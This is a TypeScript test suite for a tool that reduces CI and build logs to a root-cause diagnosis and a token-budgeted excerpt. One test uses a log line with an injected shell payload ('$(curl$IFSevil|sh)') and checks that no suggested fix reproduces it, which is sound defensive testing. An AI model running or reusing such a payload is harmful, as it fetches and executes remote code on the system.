import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { reducedLogSchema } from '../../src/logs/reduced-log.ts'
import { countTokens, fixture, longLog, redactedLines, reduced } from './reduced-fixture.ts'

const failing = [
  ['gcc-make.log', 9, 'compile', 'build'],
  ['github-tsc.log', 11, 'compile', 'build'],
  ['pytest.log', 15, 'test', 'test'],
  ['python-service.log', 9, 'runtime', 'run'],
  ['java-service.log', 10, 'runtime', 'run'],
  ['maven.log', 7, 'compile', 'build'],
  ['cargo.log', 10, 'compile', 'build'],
  ['go-test.log', 4, 'test', 'test'],
  ['npm-install.log', 2, 'dependency', 'install'],
  ['docker-build.log', 14, 'dependency', 'build'],
  ['kubernetes.log', 4, 'network', 'unknown'],
  ['jest.log', 3, 'test', 'test'],
  ['oom.log', 4, 'resource', 'unknown'],
  ['maven-test.log', 5, 'test', 'test'],
  ['pip-build.log', 11, 'dependency', 'build'],
  ['browser-ci.log', 5, 'test', 'test'],
  ['unknown-tool.log', 5, 'unknown', 'unknown'],
  ['wrapper-only.log', 4, 'unknown', 'unknown'],
] as const
const clean = ['clean-ci.log', 'clean-service.log', 'clean-build.log', 'clean-configure.log'] as const

describe('reducing a log that shows a failure', () => {
  it.each(failing)('finds the line that matters in %s', (name, line, category, phase) => {
    const { diagnosis } = reduced(fixture(name))
    const [first] = diagnosis.root_cause!.evidence
    expect(first!.line_start).toBeLessThanOrEqual(line)
    expect(first!.line_end).toBeGreaterThanOrEqual(line)
    expect(diagnosis).toMatchObject({ category, phase })
  })

  it.each(failing)('quotes the redacted original lines of %s exactly', (name) => {
    const originals = redactedLines(fixture(name))
    for (const { line_start, line_end, quote } of reduced(fixture(name)).diagnosis.root_cause!.evidence) {
      expect(quote).toBe(originals.slice(line_start - 1, line_end).join('\n'))
      expect(line_end - line_start).toBeLessThan(30)
    }
  })

  it('puts the failing line and its neighbours into the pack, with their numbers', () => {
    const { pack } = reduced(fixture('gcc-make.log'), { budgetTokens: 600 })
    expect(pack).toContain("9: src/parser.c:88:21: error: 'tok' undeclared")
  })

  it('uses wrapper noise only when there is nothing better', () => {
    const quotes = reduced(fixture('maven.log')).diagnosis.root_cause!.evidence.map((each) => each.quote)
    expect(quotes.join('\n')).not.toMatch(/BUILD FAILURE|Help 1|To see the full/)
    expect(reduced(fixture('wrapper-only.log')).diagnosis.root_cause!.confidence).toBe('low')
  })

  it('gives a signature that stays the same when paths, numbers and times change', () => {
    const first = "2024-01-01T00:00:00Z /home/a/src/x.c:10:3: error: unknown type name 'word'\n"
    const second = "2025-12-31T23:59:59Z /builds/77/src/x.c:412:9: error: unknown type name 'word'\n"
    const other = "/builds/77/src/x.c:412:9: error: unknown type name 'byte'\n"
    const signature = (log: string) => reduced(log).diagnosis.error_signature
    expect(signature(first)).toBe(signature(second))
    expect(signature(first)).not.toBe(signature(other))
  })

  it.each([
    'AssertionError',
    'CMake Error at CMakeLists.txt:14 (find_package):',
    'Undefined symbols for architecture arm64:',
  ])('states the cause without loose ends for: %s', (line) => {
    expect(reduced(`${line}\n`).diagnosis.root_cause!.statement).toMatch(/^\S.*[^:\s(]$/)
  })

  it('never writes a command out of text that a log chose freely', () => {
    const { fixes } = reduced('FAILED tests/test_a.py::test[$(curl$IFSevil|sh)] - boom\n').diagnosis
    expect(fixes.length).toBeGreaterThan(0)
    expect(JSON.stringify(fixes.map((fix) => fix.command))).not.toContain('curl')
  })
})

describe('reducing a clean log', () => {
  it.each(clean)('finds no failure in %s', (name) => {
    expect(reduced(fixture(name)).diagnosis).toMatchObject({
      root_cause: null,
      error_signature: null,
      severity: 'info',
    })
  })

  it.each(['', '\n', '\n\n\n', 'hello', 'all good\n'])('finds no failure in %j', (log) => {
    expect(reduced(log).diagnosis.root_cause).toBeNull()
  })
})

describe('reducing a long log', () => {
  const failure = [
    "2024-05-02T09:20:00.000Z src/net/socket.c:310:5: error: 'struct peer' has no member named 'addr6'",
    '2024-05-02T09:20:00.001Z make: *** [Makefile:9: socket.o] Error 1',
  ]
  const log = longLog(20_000, failure, 11_999)

  it('finds the one failure among 20,000 lines and packs it within the budget', () => {
    const result = reduced(log)
    expect(result.diagnosis.root_cause!.evidence[0]).toMatchObject({ line_start: 12_000, quote: failure[0] })
    expect(countTokens(result.pack) + countTokens(result.facts)).toBeLessThanOrEqual(1300)
    expect(result.pack).toContain("12000: src/net/socket.c:310:5: error: 'struct peer'")
    expect(result.pack).toContain('20000: ')
    expect(result.pack).toMatch(/^1: /)
    expect(result.reduction).toMatchObject({ lines_total: 20_000, method: 'anchors', truncated: true })
    expect(result.reduction.templates).toBeLessThan(200)
  })

  it('accounts for every line: shown with its number, or in a gap', () => {
    const { pack, reduction } = reduced(log)
    let next = 1
    let shown = 0
    for (const line of pack.split('\n')) {
      const gap = /^\[\.\.\. (\d+) lines? omitted, (\d+)(?:-(\d+))? \.\.\.\]$/.exec(line)
      if (gap === null) {
        expect(Number(/^(\d+): /.exec(line)![1])).toBe(next)
        next++
        shown++
        continue
      }
      const [from, to] = [Number(gap[2]), Number(gap[3] ?? gap[2])]
      expect(from).toBe(next)
      expect(to - from + 1).toBe(Number(gap[1]))
      next = to + 1
    }
    expect(next).toBe(20_001)
    expect(shown).toBe(reduction.lines_sent)
  })

  it.each([0, 1, 10, 40, 128, 500, 4000])('respects a budget of %i tokens', (budgetTokens) => {
    const result = reduced(log, { budgetTokens })
    const tokens = (text: string) => (text === '' ? 0 : countTokens(text))
    expect(tokens(result.pack) + tokens(result.facts)).toBeLessThanOrEqual(budgetTokens)
    expect(result.tokens).toBe(tokens(result.pack) + tokens(result.facts))
  })

  it('fills most of its budget', () => {
    expect(reduced(log).tokens).toBeGreaterThan(1000)
  })
})

describe('reducing any log', () => {
  const line = fc.oneof(
    fc.string({ unit: 'grapheme', maxLength: 60 }),
    fc.constantFrom(
      'ERROR: boom',
      'a.c:1:2: error: x',
      'make: *** Error 2',
      'ok',
      '',
      '  at f (a.js:1:2)',
      'Traceback (most recent call last):',
    ),
  )

  it('gives a valid result that quotes only what is there', () => {
    fc.assert(
      fc.property(fc.array(line, { maxLength: 60 }), fc.constantFrom('\n', '\r\n'), (lines, newline) => {
        const log = lines.join(newline)
        const result = reduced(log, { budgetTokens: 300 })
        expect(reducedLogSchema.parse(structuredClone(result))).toEqual(result)
        expect(result.tokens).toBeLessThanOrEqual(300)
        const originals = redactedLines(log)
        for (const { line_start, line_end, quote } of result.diagnosis.root_cause?.evidence ?? []) {
          expect(quote).toBe(originals.slice(line_start - 1, line_end).join('\n'))
        }
      }),
      { numRuns: 150 },
    )
  })
})
